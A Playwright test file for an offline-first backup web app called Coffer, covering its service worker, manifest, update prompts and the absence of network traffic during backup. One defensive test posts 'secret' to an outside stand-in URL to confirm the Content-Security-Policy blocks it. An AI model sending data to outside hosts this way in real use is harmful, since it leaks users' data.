import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { unzipSync } from 'fflate';
import {
  backUp,
  CSP_REFUSAL,
  expect,
  nextDownload,
  openBackup,
  profileTest,
  savedDownload,
  tempDir,
  test,
  unlockWithPassphrase,
  untilServiceWorkerControls,
} from './helpers.ts';

/** A whole backup and restore, checking the restored bytes. */
async function roundTrip(page: import('@playwright/test').Page): Promise<void> {
  const backup = await backUp(page, {
    name: 'offline.txt',
    mimeType: 'text/plain',
    buffer: Buffer.from('made without a network\n'),
  });
  await openBackup(page, backup);
  await unlockWithPassphrase(page);
  const download = nextDownload(page);
  await page.getByRole('button', { name: 'Restore all' }).click();
  const zip = unzipSync(readFileSync(await savedDownload(await download)));
  expect(new TextDecoder().decode(zip['offline.txt'])).toBe('made without a network\n');
}

test('the service worker controls the page, and reload, backup and restore work offline', async ({ page, context }) => {
  await page.goto('./');
  await untilServiceWorkerControls(page);
  await context.setOffline(true);
  await page.reload();
  await expect(page.getByRole('heading', { name: 'Coffer' })).toBeVisible();
  await roundTrip(page);
});

test('Chromium reports no installability errors, and the manifest opens .coffer files', async ({ page, context }) => {
  await page.goto('./');
  await untilServiceWorkerControls(page);
  const cdp = await context.newCDPSession(page);
  const { installabilityErrors } = await cdp.send('Page.getInstallabilityErrors');
  expect(installabilityErrors).toEqual([]);
  const manifest = await page.evaluate(async () => {
    const link = document.querySelector<HTMLLinkElement>('link[rel="manifest"]');
    return (await fetch(link?.href ?? '')).json();
  });
  expect(manifest.file_handlers[0].accept['application/x-coffer']).toContain('.coffer');
  expect(manifest.share_target.params.files[0].name).toBe('backup');
  expect(manifest).toMatchObject({ display: 'standalone', start_url: './', scope: './', id: './' });
  expect(manifest.icons.map((icon: { sizes: string; purpose: string }) => `${icon.sizes} ${icon.purpose}`)).toEqual([
    '192x192 any',
    '512x512 any',
    '512x512 maskable',
  ]);
});

test.describe(() => {
  // Firefox also reports the refused request as a page error; here it is the point.
  test.use({ expectedPageErrors: CSP_REFUSAL });
  test('the Content-Security-Policy blocks requests to other origins', async ({ page }) => {
    await page.goto('./');
    const outcome = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      let fetched = false;
      try {
        await fetch('https://example.org/collect', { method: 'POST', body: 'secret' });
        fetched = true;
      } catch {
        // Refused before it left the page.
      }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return { fetched, violations };
    });
    // The policy arrives twice (the header serve.mjs sends and the page's <meta>): each reports.
    expect(outcome.fetched).toBe(false);
    expect(outcome.violations.length).toBeGreaterThan(0);
    expect(new Set(outcome.violations)).toEqual(new Set(['connect-src']));
  });
});

test('after loading, a whole backup and restore make no network request, and nothing goes elsewhere', async ({
  page,
  context,
  baseURL,
}) => {
  const requests: { url: string; fromServiceWorker: boolean }[] = [];
  context.on('requestfinished', async (request) => {
    // A worker that has been terminated (cancel kills it) takes its responses with it; the
    // request itself still counts.
    const response = await request.response().catch(() => null);
    requests.push({ url: request.url(), fromServiceWorker: response?.fromServiceWorker() ?? false });
  });
  context.on('requestfailed', (request) => requests.push({ url: request.url(), fromServiceWorker: false }));
  await page.goto('./');
  await untilServiceWorkerControls(page);
  await page.waitForLoadState('networkidle');
  await page.waitForTimeout(1000);
  const loaded = requests.length;
  // The recorder sees the worker's own script load, so it would see any later request too.
  expect(requests.some((request) => request.url.includes('coffer.worker'))).toBe(true);
  // Offline, so that the one kind of request allowed below provably never reaches a server.
  await context.setOffline(true);
  await roundTrip(page);
  const origin = new URL(baseURL ?? '').origin;
  // A streamed download is the page asking its own service worker for the bytes the worker makes
  // (src/sw/serve-download.ts): a request in name only, answered on the device.
  const streamed = (url: string) => url.startsWith(`${origin}/coffer-download/`);
  const network = requests.slice(loaded).filter((request) => /^https?:/.test(request.url) && !streamed(request.url));
  expect(network, 'requests after the initial load').toEqual([]);
  const elsewhere = requests.filter(
    (request) => /^https?:/.test(request.url) && new URL(request.url).origin !== origin,
  );
  expect(elsewhere).toEqual([]);
});

/** Builds the app with a given build id into `dir`. */
function build(dir: string, id: string): void {
  execFileSync('npx', ['vite', 'build', '--outDir', dir, '--emptyOutDir', '--logLevel', 'error'], {
    env: { ...process.env, COFFER_BUILD_ID: id },
    stdio: 'inherit',
  });
}

profileTest('a new version is offered, and applied only when the person reloads', async ({ page }) => {
  profileTest.setTimeout(180_000);
  const dir = tempDir('update');
  build(dir, 'first-build');
  const port = 4419;
  const server: ChildProcess = spawn(process.execPath, ['scripts/serve.mjs', '--dir', dir, '--port', String(port)], {
    stdio: 'ignore',
  });
  try {
    const url = `http://127.0.0.1:${port}/`;
    await expect.poll(async () => (await fetch(url).catch(() => undefined))?.status, { timeout: 20_000 }).toBe(200);
    await page.goto(url);
    await untilServiceWorkerControls(page);
    await expect(page.getByTestId('build-id')).toHaveText('first-build');
    build(dir, 'second-build');
    await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.update());
    await expect(page.getByText('Update available — reload to use the new version.')).toBeVisible({ timeout: 30_000 });
    await expect(page.getByTestId('build-id')).toHaveText('first-build');
    await page.getByRole('button', { name: 'Reload' }).click();
    await expect(page.getByTestId('build-id')).toHaveText('second-build', { timeout: 30_000 });
  } finally {
    server.kill();
  }
});

test('the built app works from a sub-path of a static host', async ({ page }) => {
  const port = 4420;
  const server = spawn(process.execPath, ['scripts/serve.mjs', '--port', String(port), '--prefix', '/tools/coffer/'], {
    stdio: 'ignore',
  });
  try {
    const url = `http://127.0.0.1:${port}/tools/coffer/`;
    await expect.poll(async () => (await fetch(url).catch(() => undefined))?.status, { timeout: 20_000 }).toBe(200);
    await page.goto(url);
    await untilServiceWorkerControls(page);
    expect(await page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.scope)).toBe(url);
    await roundTrip(page);
  } finally {
    server.kill();
  }
});
